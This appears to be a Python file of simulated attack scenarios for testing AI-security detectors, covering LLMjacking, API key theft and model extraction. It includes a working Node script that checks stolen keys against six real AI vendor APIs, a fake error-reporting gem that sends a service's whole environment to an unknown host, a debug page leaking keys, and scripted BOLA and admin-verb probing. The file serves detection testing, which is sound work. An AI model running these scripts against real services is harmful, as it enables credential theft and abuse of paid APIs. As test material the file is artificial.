"""Blind, the third lot: written without a look at the detectors. Keys and servers of AI, and APIs of our own."""

from __future__ import annotations

import json
import random

from proving import answers
from proving.hosts import Asked, Reply
from proving.keys import environment
from proving.scenario import Must, Repeat, attack
from proving.scenarios.ai_servers import US
from proving.scenarios.supply_chain import drop
from proving.world import Actor, ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining")

SERVER = """
import json, os, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
with open(os.path.join(os.path.dirname(os.path.abspath(sys.argv[0])), 'routes.json')) as file:
    routes = json.load(file)

class Handler(BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'

    def answer(self):
        self.rfile.read(int(self.headers.get('content-length') or 0))
        method, path = self.command, self.path.split('?')[0]
        status, said = routes.get(method + ' ' + path) or routes.get(method) or [404, {'error': 'not found'}]
        data = json.dumps(said).encode()
        self.send_response(status)
        self.send_header('Content-Type', 'application/json')
        self.send_header('Content-Length', str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = answer

    def log_message(self, *words):
        pass

server = ThreadingHTTPServer(('0.0.0.0', int(sys.argv[sys.argv.index('--port') + 1])), Handler)
server.daemon_threads = True
server.serve_forever()
"""


def serves(world: World, path: str, port: int, routes: dict[str, tuple[int, object]], unit: str, *words: str) -> Actor:
    """A server on all addresses that answers these, by method and path or by method alone."""
    world.file(f"{path.rsplit('/', 1)[0]}/routes.json", json.dumps(routes))
    actor = world.script(world.file(path, SERVER, 0o755), *words, "--port", str(port), unit=unit)
    world.listening(actor, port)
    return actor


KEY_CHECK = """
const fs = require('fs');
const hi = [{role: 'user', content: 'hi'}];
const bearer = key => ({authorization: 'Bearer ' + key, 'content-type': 'application/json'});
const ask = {
  openai: key => ['https://api.openai.com/v1/models', {headers: bearer(key)}],
  groq: key => ['https://api.groq.com/openai/v1/models', {headers: bearer(key)}],
  mistral: key => ['https://api.mistral.ai/v1/models', {headers: bearer(key)}],
  cohere: key => ['https://api.cohere.com/v2/chat', {method: 'POST', headers: bearer(key),
    body: JSON.stringify({model: 'command-r-plus', messages: hi, max_tokens: 1})}],
  anthropic: key => ['https://api.anthropic.com/v1/messages', {method: 'POST',
    headers: {'x-api-key': key, 'anthropic-version': '2023-06-01', 'content-type': 'application/json'},
    body: JSON.stringify({model: 'claude-opus-4-1', max_tokens: 1, messages: hi})}],
  gemini: key => ['https://generativelanguage.googleapis.com/v1beta/models?key=' + key, {}],
};
(async () => {
  let good = 0;
  for (const line of fs.readFileSync(process.argv[2], 'utf8').trim().split('\\n')) {
    const [kind, key] = line.split(' ');
    good += (await fetch(...ask[kind](key))).status === 200;
    await new Promise(done => setTimeout(done, 250));
  }
  console.log('good', good);
})();
"""
VENDORS = {
    "openai": ("OPENAI_API_KEY", "198.51.100.11", "api.openai.com"),
    "anthropic": ("ANTHROPIC_API_KEY", "198.51.100.12", "api.anthropic.com"),
    "groq": ("GROQ_API_KEY", "198.51.100.13", "api.groq.com"),
    "mistral": ("MISTRAL_API_KEY", "198.51.100.14", "api.mistral.ai"),
    "gemini": ("GEMINI_API_KEY", "198.51.100.15", "generativelanguage.googleapis.com"),
    "cohere": ("CO_API_KEY", "198.51.100.17", "api.cohere.com"),
}


@attack(
    "blind3-llmjacking-six-vendors",
    "a Node script tries collected keys, four of each of six vendors of models, in turns; two are good",
    imitates="LLMjacking: the key checker that knows ten vendors (Sysdig, May 2024)",
    must=(Must("llmjacking"),),
    may=("new-ai-destination", "ai-key-shared", "model-enumeration", "baseline-deviation", "ai-key-exposed"),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
    tools=("node",),
)
def six_vendors(world: World) -> None:
    """No vendor sees more than four tries."""
    lines = [(kind, environment()[name]) for _ in range(4) for kind, (name, _, _) in VENDORS.items()]
    good = {lines[6][1], lines[21][1]}
    hosts = [world.host(address, name) for _, address, name in VENDORS.values()]

    def serve(asked: Asked) -> Reply:
        said = f"{asked.path} {asked.headers}"
        if any(key in said for key in good):
            return Reply({"object": "list", "data": [], "models": []})
        return answers.error(401, "authentication_error", "invalid api key", "invalid_api_key")

    for host in hosts:
        host.http(443, serve, tls=True)
    keys = world.file("/tmp/.cache/k.txt", "\n".join(" ".join(line) for line in lines))
    path = world.file("/tmp/.cache/kc.js", KEY_CHECK)
    world.mark()
    said = world.run("node", path, keys)
    if "good 2" not in said or [len(host.requests) for host in hosts] != [4] * 6:
        raise ScenarioError(said)


ALBUM = """
(async () => {
  for (let n = 0; n < 4; n++) {
    const url = 'https://generativelanguage.googleapis.com/v1beta/models/gemini-2.0-flash:generateContent?key=';
    const body = JSON.stringify({contents: [{parts: [{text: 'A caption for picture ' + n}]}]});
    const answer = await fetch(url + process.env.GEMINI_API_KEY, {method: 'POST', body,
      headers: {'content-type': 'application/json'}});
    if (!answer.ok) process.exit(1);
    await new Promise(done => setTimeout(done, 2000));
  }
})();
"""
GUEST = """<?php
for ($n = 0; $n < 6; $n++) {
    $body = json_encode(['contents' => [['parts' => [['text' => "Write chapter $n of the novel, as long as you can."]]]]]);
    $words = ['method' => 'POST', 'header' => 'Content-Type: application/json', 'content' => $body];
    $url = 'https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-pro:generateContent?key=' . $argv[1];
    if (file_get_contents($url, false, stream_context_create(['http' => $words])) === false) exit(1);
    usleep(600000);
}
"""


@attack(
    "blind3-key-shared-gemini",
    "a key of Google's that a Node service has used for half an hour, in the URL, is used by another service's PHP child",
    must=(Must("ai-key-shared", "portal.service"),),
    may=(
        "new-ai-destination",
        "llmjacking",
        "baseline-deviation",
        "unexpected-process",
        "ai-key-exposed",
        "token-spike",
    ),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
    minutes=40.0,
    repeats={"work": Repeat(12.0, 0.3)},
    tools=("node", "php"),
)
def key_shared(world: World) -> None:
    candidate = {"content": {"parts": [{"text": "A town."}], "role": "model"}, "finishReason": "STOP"}
    usage = {"promptTokenCount": 9, "candidatesTokenCount": 3, "totalTokenCount": 12}
    host = world.host("198.51.100.15", "generativelanguage.googleapis.com")
    host.http(443, lambda asked: Reply({"candidates": [candidate], "usageMetadata": usage}), tls=True)
    key = world.keys["GEMINI_API_KEY"]
    path = world.file("/srv/album/captions.js", ALBUM)
    actor = world.start("node", path, env={"GEMINI_API_KEY": key}, unit="album.service")
    world.sleep(3.0)
    with world.loop("work"):
        world.sleep(2.0)
    actor.wait()
    thief = world.file("/srv/portal/var/cache/guest.php", GUEST)
    world.mark()
    world.run("php", thief, key, unit="portal.service")
    assert len(host.requests) == 10


REPORTER = """
require 'net/http'; require 'json'
web = Net::HTTP.new('ingest.bug-relay.example', 443)
web.use_ssl = true
2.times do |n|
  body = {error: 'NoMethodError', at: "catalog.rb:#{40 + n}", context: {ruby: RUBY_VERSION, env: ENV.to_h}}.to_json
  puts web.post('/api/4/store', body, 'Content-Type' => 'application/json').code
  sleep 1
end
"""


@attack(
    "blind3-key-in-error-report",
    "a gem that reports errors sends a service's whole environment, the providers' keys in it, to a host that nobody knows",
    must=(Must("ai-key-misdirected", "catalog.service", "bug-relay.example"),),
    may=("credential-access", "data-exfiltration", "ai-key-exposed", "baseline-deviation", "new-ai-destination"),
    must_not=(*NOT, "llmjacking", "beaconing"),
    tools=("ruby",),
)
def error_report(world: World) -> None:
    """The keys are in the body, as values of a JSON object, and in no header."""
    sink = drop(world, "203.0.113.225", "ingest.bug-relay.example")
    path = world.file("/srv/catalog/vendor/bundle/gems/bugrelay-1.2/lib/reporter.rb", REPORTER)
    keys = {name: world.keys[name] for name in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY")}
    world.mark()
    world.run("ruby", path, env=keys, unit="catalog.service")
    assert sink.received > 600


DEBUG = """<?php
if ($_SERVER['REQUEST_URI'] === '/') { echo '<h1>News</h1>'; exit; }
http_response_code(500);
echo '<h1>ErrorException</h1><pre>Undefined array key "page" in /srv/cms/index.php:12</pre><h2>Environment</h2><table>';
foreach (getenv() as $name => $value) echo '<tr><td>' . $name . '</td><td>' . htmlspecialchars($value) . '</td></tr>';
echo '</table>';
"""


@attack(
    "blind3-key-in-debug-page",
    "a PHP site that was left in debug mode shows strangers its environment on an error page, a provider's key in it",
    imitates="Laravel's debug pages, where LLMjacking found its keys",
    must=(Must("ai-key-exposed", "cms.service"),),
    may=("baseline-deviation", "api-access-violation"),
    must_not=(*NOT, "data-exfiltration", "beaconing", "llmjacking"),
    tools=("php",),
)
def debug_page(world: World) -> None:
    path = world.file("/srv/cms/index.php", DEBUG)
    key = {"ANTHROPIC_API_KEY": world.keys["ANTHROPIC_API_KEY"]}
    actor = world.start("php", "-S", "0.0.0.0:8098", path, env=key, unit="cms.service")
    world.listening(actor, 8098)
    world.mark()
    for number in range(3):
        stranger = world.host(f"203.0.113.{226 + number}")
        assert stranger.ask(US, 8098, "GET", "/")[0] == 200
        status, said = stranger.ask(US, 8098, "GET", f"/news?p={number}")
        assert status == 500
        assert key["ANTHROPIC_API_KEY"].encode() in said
        world.sleep(0.7)
    actor.stop()


@attack(
    "blind3-comfyui-exposed",
    "ComfyUI listens on all addresses: strangers from the internet ask what it has and put work into its queue",
    must=(Must("unauthenticated-model-server", "comfy.service"),),
    may=("baseline-deviation", "model-enumeration", "api-access-violation"),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
)
def comfyui(world: World) -> None:
    device = {"name": "cuda:0 NVIDIA L4", "type": "cuda", "vram_total": 23_000_000_000}
    nodes = {"KSampler": {"input": {"required": {"seed": ["INT", {}]}}, "category": "sampling"}}
    routes: dict[str, tuple[int, object]] = {
        "GET /system_stats": (200, {"system": {"os": "posix", "comfyui_version": "0.3.40"}, "devices": [device]}),
        "GET /object_info": (200, nodes),
        "GET /queue": (200, {"queue_running": [], "queue_pending": []}),
        "POST /prompt": (200, {"prompt_id": "5a1e3f0c-9b7d-4c1e-8a52-7d0f3c6b2e11", "number": 1, "node_errors": {}}),
        "GET /history": (200, {}),
    }
    actor = serves(world, "/srv/ComfyUI/main.py", 8188, routes, "comfy.service", "--listen", "0.0.0.0")
    world.mark()
    for number in range(3):
        stranger = world.host(f"203.0.113.{230 + number}")
        work = {"prompt": {"3": {"class_type": "KSampler", "inputs": {"seed": number, "steps": 20}}}, "client_id": "c1"}
        for route in routes:
            method, path = route.split()
            sent = json.dumps(work).encode() if method == "POST" else None
            assert stranger.ask(US, 8188, method, path, sent, content_type="application/json")[0] == 200
            world.sleep(0.2)
    actor.stop()


@attack(
    "blind3-extraction-logit-bias",
    "one customer asks our model for one token 500 times, each time with another word pushed up, and keeps the probabilities",
    imitates="Stealing part of a production language model (Carlini et al., 2024)",
    must=(Must("model-extraction", "llm.service"),),
    may=("unauthenticated-model-server", "token-spike", "baseline-deviation", "api-access-violation"),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
)
def logit_bias(world: World) -> None:
    """The prompt is always the same word: what differs are the biases."""
    choice = {
        "index": 0,
        "text": " a",
        "finish_reason": "length",
        "logprobs": {"tokens": [" a"], "token_logprobs": [-0.7]},
    }
    usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
    said = {"id": "cmpl-1", "object": "text_completion", "created": 1, "model": "org/model-7b", "choices": [choice]}
    routes: dict[str, tuple[int, object]] = {"POST /v1/completions": (200, {**said, "usage": usage})}
    actor = serves(world, "/srv/venv/bin/vllm", 8000, routes, "llm.service", "serve", "org/model-7b")
    caller = world.host("203.0.113.234")
    world.mark()
    for number in range(500):
        asked = {"model": "org/model-7b", "prompt": "x", "max_tokens": 1, "temperature": 0, "logprobs": 5}
        body = json.dumps({**asked, "logit_bias": {str(61 * number + n): 100 for n in range(4)}}).encode()
        headers = {"content_type": "application/json", "authorization": "Bearer customer-token-22"}
        assert caller.ask(US, 8000, "POST", "/v1/completions", body, **headers)[0] == 200
        world.sleep(0.02)
    actor.stop()


@attack(
    "blind3-api-graphql-ids",
    "one customer's token asks a GraphQL API for 180 orders by their numbers, in a row: the path never changes",
    must=(Must("api-access-violation", "graph.service", "203.0.113.235"),),
    may=("baseline-deviation",),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
)
def graphql(world: World) -> None:
    """Broken object level authorization (OWASP API1): each answer is somebody else's order."""
    order = {"id": "1", "total": 81.5, "customer": {"name": "somebody else", "address": "Main Street 1"}}
    routes: dict[str, tuple[int, object]] = {"POST /graphql": (200, {"data": {"order": order}})}
    actor = serves(world, "/srv/graph/server.py", 8099, routes, "graph.service")
    caller = world.host("203.0.113.235")
    world.mark()
    for number in range(52_300, 52_480):
        query = "query Order($id: ID!) { order(id: $id) { id total customer { name address } } }"
        body = json.dumps({"operationName": "Order", "query": query, "variables": {"id": str(number)}}).encode()
        headers = {"content_type": "application/json", "authorization": "Bearer customer-d"}
        assert caller.ask(US, 8099, "POST", "/graphql", body, **headers)[0] == 200
        world.sleep(0.08)
    actor.stop()


@attack(
    "blind3-api-admin-verbs",
    "a customer's token tries PUT, PATCH and DELETE on 70 things of the administrators', between reads that it may do",
    must=(Must("api-access-violation", "graph.service", "203.0.113.236"),),
    may=("baseline-deviation",),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
)
def admin_verbs(world: World) -> None:
    """Broken function level authorization (OWASP API5): every second answer is a 200."""
    refused = {"error": "insufficient scope"}
    routes: dict[str, tuple[int, object]] = {
        "GET": (200, {"id": 1, "name": "a thing"}),
        **dict.fromkeys(("PUT", "PATCH", "DELETE"), (403, refused)),
    }
    actor = serves(world, "/srv/graph/server.py", 8099, routes, "graph.service")
    caller = world.host("203.0.113.236")
    chance = random.Random("verbs")
    world.mark()
    for number in range(70):
        head = {"content_type": "application/json", "authorization": "Bearer customer-e"}
        assert caller.ask(US, 8099, "GET", "/v1/me/orders", **head)[0] == 200
        what = chance.choice(("users", "roles", "plans", "refunds", "flags"))
        verb = ("PUT", "PATCH", "DELETE")[number % 3]
        assert caller.ask(US, 8099, verb, f"/v1/admin/{what}/{number % 9}", b'{"role": "admin"}', **head)[0] == 403
        world.sleep(0.2)
    actor.stop()
